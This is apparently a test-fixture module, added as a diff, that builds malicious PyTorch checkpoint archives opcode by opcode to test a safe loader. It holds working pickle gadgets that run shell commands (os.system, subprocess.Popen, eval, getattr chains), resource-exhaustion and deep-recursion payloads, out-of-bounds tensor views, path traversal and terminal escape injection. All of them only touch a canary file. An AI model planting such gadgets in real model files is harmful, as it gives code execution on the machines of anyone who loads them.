@@ -1,0 +1,663 @@
+"""Pickles that call, and pickles that lie about the tensors of an archive.
+
+Written opcode by opcode, since no pickler would write them.
+"""
+
+from __future__ import annotations
+
+import struct
+import zipfile
+from collections.abc import Mapping
+from pathlib import Path
+from typing import Any
+
+from attacks import CANARY, attack
+
+PROTO, STOP = b"\x80\x02", b"."
+REDUCE, BUILD, NEWOBJ = b"R", b"b", b"\x81"
+TUPLE1, TUPLE2 = b"\x85", b"\x86"
+
+
+def text(value: str) -> bytes:
+    data = value.encode("utf-8", "surrogatepass")
+    return b"X" + struct.pack("<L", len(data)) + data
+
+
+def number(value: int) -> bytes:
+    size = value.bit_length() // 8 + 1
+    data = value.to_bytes(size, "little", signed=True)
+    return b"\x8a" + bytes([size]) + data if size < 256 else b"\x8b" + struct.pack("<l", size) + data
+
+
+class Raw(bytes):
+    """Opcodes that leave one object on the stack."""
+
+
+def opcodes(value: Any) -> bytes:
+    if isinstance(value, Raw):
+        return value
+    if isinstance(value, str):
+        return text(value)
+    if value is None or isinstance(value, bool):
+        return {None: b"N", True: b"\x88", False: b"\x89"}[value]
+    if isinstance(value, int):
+        return number(value)
+    if isinstance(value, tuple):
+        return b"(" + b"".join(map(opcodes, value)) + b"t"
+    if isinstance(value, list):
+        return b"](" + b"".join(map(opcodes, value)) + b"e"
+    assert isinstance(value, dict)
+    return b"}(" + b"".join(opcodes(k) + opcodes(v) for k, v in value.items()) + b"u"
+
+
+def name(what: str) -> Raw:
+    module, _, attribute = what.rpartition(".")
+    return Raw(f"c{module}\n{attribute}\n".encode())
+
+
+def call(function: str | Raw, *arguments: Any) -> Raw:
+    return Raw(opcodes(name(function) if not isinstance(function, Raw) else function) + opcodes(arguments) + REDUCE)
+
+
+def storage(key: Any = "0", numel: Any = 4, kind: str = "torch.FloatStorage", device: Any = "cpu") -> Raw:
+    return Raw(opcodes(("storage", name(kind), key, device, numel)) + b"Q")
+
+
+def tensor(
+    offset: Any = 0,
+    size: Any = (4,),
+    stride: Any = (1,),
+    key: Any = "0",
+    numel: Any = 4,
+    kind: str = "torch.FloatStorage",
+) -> Raw:
+    hooks = call("collections.OrderedDict")
+    return call("torch._utils._rebuild_tensor_v2", storage(key, numel, kind), offset, size, stride, False, hooks)
+
+
+def archive(folder: Path, obj: Any, records: Mapping[str, bytes] | None = None) -> Path:
+    """An archive of torch.save with this object, opcodes or whole pickle, and a storage of four floats."""
+    pickle = obj if isinstance(obj, bytes) and not isinstance(obj, Raw) else PROTO + opcodes(obj) + STOP
+    path = folder / "x.pt"
+    with zipfile.ZipFile(path, "w") as file:
+        entries = {
+            "data.pkl": pickle,
+            "byteorder": b"little",
+            "version": b"3\n",
+            **(records or {"data/0": b"\0\0\x80?" * 4}),
+        }
+        for entry, data in entries.items():
+            file.writestr(zipfile.ZipInfo(f"archive/{entry}"), data)
+    return path
+
+
+def system(folder: Path) -> bytes:
+    return PROTO + call("os.system", f"touch '{folder / CANARY}'") + STOP
+
+
+# Gadgets
+
+
+@attack(trap=True)
+def os_system(folder: Path) -> Path:
+    """The plainest gadget: a call of os.system."""
+    return archive(folder, system(folder))
+
+
+@attack(trap=True)
+def posix_system(folder: Path) -> Path:
+    """The same function under the name of the module that it is from."""
+    return archive(folder, {"x": call("posix.system", f"touch '{folder / CANARY}'")})
+
+
+@attack(trap=True)
+def builtins_eval(folder: Path) -> Path:
+    """builtins.eval of an expression."""
+    return archive(folder, {"x": call("builtins.eval", f"open({str(folder / CANARY)!r}, 'w')")})
+
+
+@attack(trap=True)
+def old_builtins_exec(folder: Path) -> Path:
+    """exec under Python 2's name for builtins, which unpicklers translate."""
+    return archive(folder, {"x": call("__builtin__.eval", f"open({str(folder / CANARY)!r}, 'w')")})
+
+
+@attack(trap=True)
+def subprocess_popen(folder: Path) -> Path:
+    """A class whose making is a call."""
+    return archive(folder, {"x": call("subprocess.Popen", ["touch", str(folder / CANARY)])})
+
+
+@attack(trap=True)
+def getattr_chain(folder: Path) -> Path:
+    """getattr climbs from a module that looks harmless to os.system."""
+    return archive(
+        folder,
+        call(call("builtins.getattr", call("importlib.import_module", "os"), "system"), f"touch '{folder / CANARY}'"),
+    )
+
+
+@attack
+def dotted_name(folder: Path) -> Path:
+    """A name with a dot in it: torch, then serialization.os.system."""
+    return archive(folder, call(Raw(b"ctorch\nserialization.os.system\n"), f"touch '{folder / CANARY}'"))
+
+
+@attack(trap=True)
+def stack_global(folder: Path) -> Path:
+    """The newer opcode that takes module and name from the stack, in protocol 4."""
+    function = Raw(text("os") + text("system") + b"\x93")
+    return archive(folder, b"\x80\x04" + call(function, f"touch '{folder / CANARY}'") + STOP)
+
+
+@attack(trap=True)
+def inst_opcode(folder: Path) -> Path:
+    """INST, an opcode of 1995 which names and calls at once."""
+    return archive(folder, b"(" + text(f"touch '{folder / CANARY}'") + b"ios\nsystem\n.")
+
+
+@attack(trap=True)
+def obj_opcode(folder: Path) -> Path:
+    """OBJ, its brother."""
+    return archive(folder, b"(cos\nsystem\n" + text(f"touch '{folder / CANARY}'") + b"o.")
+
+
+@attack(trap=True)
+def newobj_of_a_function_that_is_none(folder: Path) -> Path:
+    """NEWOBJ makes a Popen, BUILD and REDUCE are not needed."""
+    made = name("pathlib.Path") + opcodes((str(folder / CANARY),)) + NEWOBJ
+    return archive(folder, call(call("builtins.getattr", Raw(made), "touch")))
+
+
+@attack(trap=True)
+def build_with_setstate(folder: Path) -> Path:
+    """BUILD on an object that was given a __setstate__ of the attacker's choice: os.system."""
+    made = name("types.SimpleNamespace") + b")\x81"
+    states = opcodes({"__setstate__": name("os.system")}) + BUILD + text(f"touch '{folder / CANARY}'") + BUILD
+    return archive(folder, PROTO + made + states + STOP)
+
+
+@attack(harmless="attributes of an object, which nobody calls")
+def build_an_ordered_dict(folder: Path) -> Path:
+    """BUILD, which is allowed for OrderedDict, replaces its methods by strings."""
+    made = call("collections.OrderedDict") + opcodes({"items": 5, "keys": None, "__len__": 7}) + BUILD
+    return archive(folder, {"model": Raw(made), "optimizer": Raw(made), "x": {}, "rng": Raw(made)})
+
+
+@attack(trap=True)
+def torch_load_nested(folder: Path) -> Path:
+    """A call of torch.load on another file, with weights_only=False."""
+    inner = folder / "inner.pt"
+    archive(folder, system(folder)).rename(inner)
+    return archive(folder, {"x": call("torch.load", str(inner), None, None)} if False else nested(inner))
+
+
+def nested(inner: Path) -> dict[str, Any]:
+    load = call("functools.partial", name("torch.load"))
+    keywords = Raw(load + opcodes((name("torch.load"), (), {"weights_only": False}, {})) + BUILD)
+    return {"x": call(keywords, str(inner))}
+
+
+@attack
+def blocked_even_if_allowed(folder: Path) -> Path:
+    """sys.modules, from which everything can be had."""
+    return archive(folder, {"x": name("sys.modules")})
+
+
+@attack
+def torch_functions(folder: Path) -> Path:
+    """Functions of torch that compile, load or call: not on the list."""
+    return archive(
+        folder, {"x": call("torch.hub.load", "x", "y"), "y": call("torch.utils.cpp_extension.load", "x", ["y"])}
+    )
+
+
+@attack
+def rebuild_from_type_of_a_function(folder: Path) -> Path:
+    """_rebuild_from_type_v2 is allowed, and calls what it is given: a function that is not."""
+    gadget = (name("os.system"), name("torch.Tensor"), (f"touch '{folder / CANARY}'",), {})
+    return archive(folder, {"x": call("torch._tensor._rebuild_from_type_v2", *gadget)})
+
+
+@attack
+def extension_codes(folder: Path) -> Path:
+    """EXT1, EXT2 and EXT4 name functions that a program has registered by number."""
+    return archive(folder, PROTO + b"(\x82\x01\x83\x02\0\x84\x03\0\0\0l.")
+
+
+@attack
+def persistent_text(folder: Path) -> Path:
+    """A persistent id that is a line of text."""
+    return archive(folder, PROTO + b"Pmodule\n.")
+
+
+@attack
+def persistent_module(folder: Path) -> Path:
+    """A persistent id of another kind, as TorchScript's packages have: code."""
+    return archive(folder, {"x": Raw(opcodes(("module", "os", "system", "cpu", 1)) + b"Q")})
+
+
+@attack
+def persistent_nested(folder: Path) -> Path:
+    """A persistent id whose key is a tuple of itself, ten thousand deep."""
+    return archive(
+        folder,
+        {
+            "x": Raw(
+                opcodes(("storage", name("torch.FloatStorage")))[:-1]
+                + b")"
+                + TUPLE1 * 10_000
+                + text("cpu")
+                + number(4)
+                + b"tQ"
+            )
+        },
+    )
+
+
+# Memory, stack and time
+
+
+@attack(harmless="the memo is a dict")
+def memo_index(folder: Path) -> Path:
+    """A memo with the index 2^31: the unpickler in C makes room for all below."""
+    return archive(folder, PROTO + b"Nr\xff\xff\xff\x7f.")
+
+
+@attack
+def memo_missing(folder: Path) -> Path:
+    """A memo that was never put."""
+    return archive(folder, PROTO + b"h\x07.")
+
+
+@attack
+def empty_stack(folder: Path) -> Path:
+    """Opcodes that take what is not on the stack."""
+    return archive(folder, PROTO + b"\x85\x87Rbu.")
+
+
+@attack
+def no_mark(folder: Path) -> Path:
+    """Opcodes that look for a mark which was never set."""
+    return archive(folder, PROTO + b"]K\x01eu.")
+
+
+@attack
+def long_text(folder: Path) -> Path:
+    """A string of 4 GiB, of which five bytes are there."""
+    return archive(folder, PROTO + b"X\xff\xff\xff\xffhello.")
+
+
+@attack
+def long_bytearray(folder: Path) -> Path:
+    """BYTEARRAY8 of 64 GiB: room is made before it is read."""
+    return archive(folder, b"\x80\x05\x96" + struct.pack("<Q", 64 << 30) + b"x.")
+
+
+@attack
+def long_frame(folder: Path) -> Path:
+    """A frame of 2^62 bytes."""
+    return archive(folder, b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"N.")
+
+
+@attack
+def long_number(folder: Path) -> Path:
+    """LONG4 with a negative length."""
+    return archive(folder, PROTO + b"\x8b\xff\xff\xff\xff.")
+
+
+@attack
+def bytearray_of_a_number(folder: Path) -> Path:
+    """bytearray is allowed, for its bytes; given a number, it makes 16 GiB of zeros."""
+    return archive(folder, {"x": call("builtins.bytearray", 16 << 30)})
+
+
+@attack(harmless="bytearray.__new__ takes no notice of a length")
+def bytearray_by_newobj(folder: Path) -> Path:
+    """The same through NEWOBJ."""
+    return archive(folder, {"x": Raw(name("builtins.bytearray") + opcodes((16 << 30,)) + NEWOBJ + opcodes({}) + BUILD)})
+
+
+@attack
+def bytearray_by_rebuild(folder: Path) -> Path:
+    """The same through a function that calls what it is given."""
+    rebuild = (name("builtins.bytearray"), name("builtins.bytearray"), (16 << 30,), {})
+    return archive(folder, {"x": call("torch._tensor._rebuild_from_type_v2", *rebuild)})
+
+
+@attack
+def tensor_of_a_number(folder: Path) -> Path:
+    """torch.Tensor, given a number, is as long as that."""
+    return archive(folder, {"x": call("torch.Tensor", 1 << 40)})
+
+
+@attack
+def untyped_storage_of_a_number(folder: Path) -> Path:
+    """torch.storage.UntypedStorage, given a number, is as long as that."""
+    return archive(folder, {"x": call("torch.storage.UntypedStorage", 1 << 42)})
+
+
+@attack
+def hash_of_a_deep_tuple(folder: Path) -> Path:
+    """A key that is a tuple a million deep: its hash overflows the C stack, which no exception tells."""
+    return archive(folder, PROTO + b"})" + TUPLE1 * 1_000_000 + b"Ns.")
+
+
+@attack
+def hash_of_a_deep_tuple_in_a_set(folder: Path) -> Path:
+    """The same as the member of a set, whose making is a call."""
+    return archive(
+        folder, PROTO + name("builtins.set") + b"](" + b")" + TUPLE1 * 1_000_000 + b"e" + TUPLE1 + REDUCE + STOP
+    )
+
+
+@attack
+def hash_of_a_deep_tuple_by_rebuild(folder: Path) -> Path:
+    """The same through a function that calls what it is given."""
+    arguments = name("builtins.set") + name("builtins.set") + b"](" + b")" + TUPLE1 * 1_000_000 + b"e" + TUPLE1 + b"N"
+    return archive(
+        folder, PROTO + name("torch._tensor._rebuild_from_type_v2") + b"(" + arguments + b"t" + REDUCE + STOP
+    )
+
+
+@attack
+def hash_of_a_wide_tuple(folder: Path) -> Path:
+    """A key that is a pair of a pair of a pair, all the same: its hash takes 2^64 steps."""
+    pairs = b"".join(b"q%ch%c" % (n, n) + TUPLE2 for n in range(64))
+    return archive(folder, PROTO + b"})" + pairs + b"Ns.")
+
+
+@attack
+def hash_of_a_deep_size(folder: Path) -> Path:
+    """torch.Size makes tuples of lists: depth without an opcode for tuples."""
+    deep = b")" + (TUPLE1 + b"q\0" + b"0" + name("torch.Size") + b"](h\0e" + TUPLE1 + REDUCE) * 60_000
+    return archive(folder, PROTO + b"}" + deep + b"Ns.")
+
+
+@attack(harmless="a tree may be as deep as a pickle without recursion makes it")
+def deep_list(folder: Path) -> Path:
+    """A list a hundred thousand deep, for whoever walks it by recursion."""
+    return archive(folder, PROTO + b"]" * 100_000 + b"a" * 99_999 + STOP)
+
+
+@attack(harmless="lists may be shared")
+def a_billion_laughs(folder: Path) -> Path:
+    """A list of ten lists of ten lists, all shared: 10^30 paths in a thousand bytes."""
+    laughs = b"".join(b"q%c](" % n + b"h%c" % n * 10 + b"e" for n in range(30))
+    return archive(folder, PROTO + text("ha") + laughs + STOP)
+
+
+@attack(harmless="names may be long")
+def long_paths(folder: Path) -> Path:
+    """One name of a megabyte above a hundred thousand values: their paths would take a hundred gigabytes."""
+    return archive(folder, {"a" * (1 << 20): Raw(b"](" + b"N" * 100_000 + b"](NeeNa" + b"")})
+
+
+@attack
+def a_million_names(folder: Path) -> Path:
+    """Two hundred thousand different functions are named, each of which a reader may make an object for."""
+    return archive(folder, PROTO + b"(" + b"".join(b"ca\n%x\n0" % n for n in range(200_000)) + b"t.")
+
+
+@attack
+def slow_codec(folder: Path) -> Path:
+    """_codecs.encode is allowed, for bytes; some of its codecs are programs that take quadratic time."""
+    return archive(
+        folder, {"x": call("_codecs.encode", "".join(chr(0x4E00 + n % 20000) for n in range(200_000)), "punycode")}
+    )
+
+
+# Tensors
+
+
+@attack
+def storage_missing(folder: Path) -> Path:
+    """A storage that is not in the archive."""
+    return archive(folder, {"x": tensor(key="7")})
+
+
+@attack
+def storage_by_a_number(folder: Path) -> Path:
+    """One storage by the key "0" and by the key 0: shared for one reader, two copies for another."""
+    return archive(folder, {"x": tensor(), "y": tensor(key=0)})
+
+
+@attack
+def storage_of_another_length(folder: Path) -> Path:
+    """A storage that declares more elements than its record has bytes for."""
+    return archive(folder, {"x": tensor(numel=5)})
+
+
+@attack
+def storage_of_another_type(folder: Path) -> Path:
+    """The same by the size of its elements."""
+    return archive(folder, {"x": tensor(kind="torch.DoubleStorage")})
+
+
+@attack
+def storage_negative(folder: Path) -> Path:
+    """A storage of minus four elements."""
+    return archive(folder, {"x": tensor(numel=-4)})
+
+
+@attack
+def storage_overflowing(folder: Path) -> Path:
+    """A storage of 2^62 + 4 elements of four bytes: sixteen bytes, in 64 bits."""
+    return archive(folder, {"x": tensor(numel=(1 << 62) + 4)})
+
+
+@attack
+def storage_above(folder: Path) -> Path:
+    """A storage whose key climbs out of its folder."""
+    return archive(folder, {"x": tensor(key="../version", numel=2, kind="torch.ByteStorage")})
+
+
+@attack
+def storage_on_a_strange_device(folder: Path) -> Path:
+    """A location that somebody may parse."""
+    return archive(
+        folder,
+        {"x": call("torch._utils._rebuild_tensor_v2", storage(device="cuda:999999999999"), 0, (4,), (1,), False, {})},
+    )
+
+
+@attack
+def view_beyond(folder: Path) -> Path:
+    """A view that is longer than its storage."""
+    return archive(folder, {"x": tensor(size=(1 << 20,))})
+
+
+@attack
+def view_by_stride(folder: Path) -> Path:
+    """A view whose second element is behind the storage."""
+    return archive(folder, {"x": tensor(size=(2,), stride=(1 << 40,))})
+
+
+@attack
+def view_by_offset(folder: Path) -> Path:
+    """An offset behind the storage."""
+    return archive(folder, {"x": tensor(offset=1 << 40, size=(1,))})
+
+
+@attack
+def view_before(folder: Path) -> Path:
+    """An offset in front of the storage."""
+    return archive(folder, {"x": tensor(offset=-1, size=(1,))})
+
+
+@attack
+def view_backwards(folder: Path) -> Path:
+    """A negative stride."""
+    return archive(folder, {"x": tensor(stride=(-1,))})
+
+
+@attack
+def view_negative(folder: Path) -> Path:
+    """Negative sizes."""
+    return archive(folder, {"x": tensor(size=(-2, -2), stride=(1, 1))})
+
+
+@attack
+def view_overflowing(folder: Path) -> Path:
+    """Sizes and strides whose product overflows to something that fits."""
+    return archive(folder, {"x": tensor(size=(1 << 32, 1 << 32), stride=(1 << 32, 1))})
+
+
+@attack
+def view_of_big_numbers(folder: Path) -> Path:
+    """Sizes of twenty thousand bits: more digits than Python prints."""
+    return archive(folder, {"x": tensor(size=(1 << 20_000,))})
+
+
+@attack
+def view_of_a_hundred_thousand_dimensions(folder: Path) -> Path:
+    """A size with a hundred thousand dimensions of 62 bits, whose product somebody may compute."""
+    return archive(folder, {"x": tensor(size=(1 << 62,) * 100_000, stride=(1,) * 100_000)})
+
+
+@attack
+def view_of_text(folder: Path) -> Path:
+    """Sizes and strides that are text with escape sequences."""
+    return archive(folder, {"x": tensor(size=("\x1b[2J",), stride=("\x1b[2J",))})
+
+
+@attack
+def view_v3(folder: Path) -> Path:
+    """The same lie through the function for dtypes without a storage type."""
+    bytes_16 = storage(numel=16, kind="torch.storage.UntypedStorage")
+    return archive(
+        folder,
+        {"x": call("torch._utils._rebuild_tensor_v3", bytes_16, 0, (1 << 20,), (1,), False, {}, name("torch.uint16"))},
+    )
+
+
+@attack
+def view_by_legacy_build(folder: Path) -> Path:
+    """BUILD on a tensor, as torch 0.1 pickled it, is set_() with the attacker's numbers."""
+    made = call("torch.Tensor") + opcodes((storage(), 0, (1 << 20,), (1,))) + BUILD
+    return archive(folder, {"x": Raw(made)})
+
+
+@attack
+def meta_tensor_overflowing(folder: Path) -> Path:
+    """A tensor without memory, of a size that overflows."""
+    return archive(
+        folder,
+        {
+            "x": call(
+                "torch._utils._rebuild_meta_tensor_no_storage", name("torch.float32"), (1 << 62, 1 << 62), (1, 1), False
+            )
+        },
+    )
+
+
+@attack
+def sparse_indices_outside(folder: Path) -> Path:
+    """A sparse tensor of three elements with one at index 2^40: to_dense() writes there."""
+    indices = tensor(key="1", numel=1, size=(1, 1), stride=(1, 1), kind="torch.LongStorage")
+    values = tensor(key="0", size=(1,))
+    layout = call("torch.serialization._get_layout", "torch.sparse_coo")
+    made = call("torch._utils._rebuild_sparse_tensor", layout, (indices, values, call("torch.Size", (3,)), True))
+    return archive(folder, {"x": made}, {"data/0": bytes(16), "data/1": struct.pack("<q", 1 << 40)})
+
+
+@attack
+def sparse_rows_outside(folder: Path) -> Path:
+    """A compressed sparse tensor whose row pointers and columns lie."""
+    rows = tensor(key="1", numel=4, size=(4,), kind="torch.LongStorage")
+    columns = tensor(key="2", numel=1, size=(1,), kind="torch.LongStorage")
+    layout = call("torch.serialization._get_layout", "torch.sparse_csr")
+    made = call(
+        "torch._utils._rebuild_sparse_tensor", layout, (rows, columns, tensor(size=(1,)), call("torch.Size", (3, 3)))
+    )
+    lies = {
+        "data/0": bytes(16),
+        "data/1": struct.pack("<4q", 0, 1 << 30, 1 << 31, 1),
+        "data/2": struct.pack("<q", 1 << 40),
+    }
+    return archive(folder, {"x": made}, lies)
+
+
+@attack
+def nested_tensor_outside(folder: Path) -> Path:
+    """A nested tensor over four floats whose parts begin a gigabyte behind them."""
+    whole = tensor()
+    sizes = tensor(key="1", numel=1, size=(1, 1), stride=(1, 1), kind="torch.LongStorage")
+    strides = tensor(key="1", numel=1, size=(1, 1), stride=(1, 1), kind="torch.LongStorage")
+    offsets = tensor(key="2", numel=1, size=(1,), kind="torch.LongStorage")
+    made = call("torch._utils._rebuild_nested_tensor", whole, sizes, strides, offsets)
+    lies = {"data/0": bytes(16), "data/1": struct.pack("<q", 1), "data/2": struct.pack("<q", 1 << 28)}
+    return archive(folder, {"x": made}, lies)
+
+
+@attack
+def quantized_axis_outside(folder: Path) -> Path:
+    """A quantised tensor of four elements with scales for two, along its hundredth dimension."""
+    scheme = name("torch.per_channel_affine")
+    scales = tensor(key="1", numel=2, size=(2,), kind="torch.DoubleStorage")
+    zeros = tensor(key="2", numel=2, size=(2,), kind="torch.LongStorage")
+    quantizer = (scheme, scales, zeros, 100)
+    made = call(
+        "torch._utils._rebuild_qtensor",
+        storage(numel=4, kind="torch.QInt8Storage"),
+        0,
+        (4,),
+        (1,),
+        quantizer,
+        False,
+        {},
+    )
+    return archive(folder, {"x": made}, {"data/0": bytes(4), "data/1": bytes(16), "data/2": bytes(16)})
+
+
+@attack(harmless="names and values may be any text; they are escaped where they are shown")
+def escapes_in_names(folder: Path) -> Path:
+    """Names and values that clear the screen, turn text around and write the clipboard."""
+    evil = "\x1b[2J\x1b]52;c;YQ==\x07\u202e\x9b31m\x7f\r\n"
+    return archive(folder, {evil: tensor(), "x": evil, "y": {evil: [tensor(), evil]}, "\ud800": 1})
+
+
+@attack
+def escapes_in_globals(folder: Path) -> Path:
+    """Functions whose names are escape sequences; who refuses them says so."""
+    return archive(folder, {"x": call(Raw(b"c\x1b[2J\n\x1b]0;owned\x07\n"), 1)})
+
+
+@attack
+def escapes_in_an_array(folder: Path) -> Path:
+    """A NumPy array whose dtype and shape are escape sequences."""
+    dtype = call("numpy.dtype", "\x1b[2J")
+    return archive(
+        folder, {"x": call("numpy.ndarray", ("\x1b[2J",), dtype, call("numpy.asarray", tensor())), "y": tensor()}
+    )
+
+
+@attack
+def escapes_by_build(folder: Path) -> Path:
+    """BUILD puts other attributes into what a reader has made of a tensor and its storage."""
+    evil = {"dtype": "\x1b[2J", "shape": ("\x1b[2J",), "record": 5, "storage": "\x1b[2J", "kind": 7, "stride": {}}
+    return archive(folder, {"x": Raw(tensor() + opcodes(evil) + BUILD), "y": Raw(storage() + opcodes(evil) + BUILD)})
+
+
+@attack
+def build_a_function(folder: Path) -> Path:
+    """BUILD with slots sets attributes of a function: its defaults, which stay for the next file."""
+    state = opcodes((None, {"__defaults__": (1, 2, 3), "__kwdefaults__": {}, "__doc__": "\x1b[2J"}))
+    return archive(folder, {"x": Raw(name("torch._utils._rebuild_tensor_v2") + state + BUILD)})
+
+
+@attack
+def strange_keys(folder: Path) -> Path:
+    """Keys that cannot be hashed, and keys that are functions and tensors."""
+    return archive(folder, PROTO + b"}" + tensor() + b"Ns" + name("torch.Size") + b"Ns" + b"]Ns.")
+
+
+@attack
+def a_pickle_of_nothing(folder: Path) -> Path:
+    """A pickle that ends before it has begun."""
+    return archive(folder, b"")
+
+
+def innocent(folder: Path) -> Path:
+    """What all of these pretend to be; read by everything."""
+    return archive(folder, {"x": tensor()})
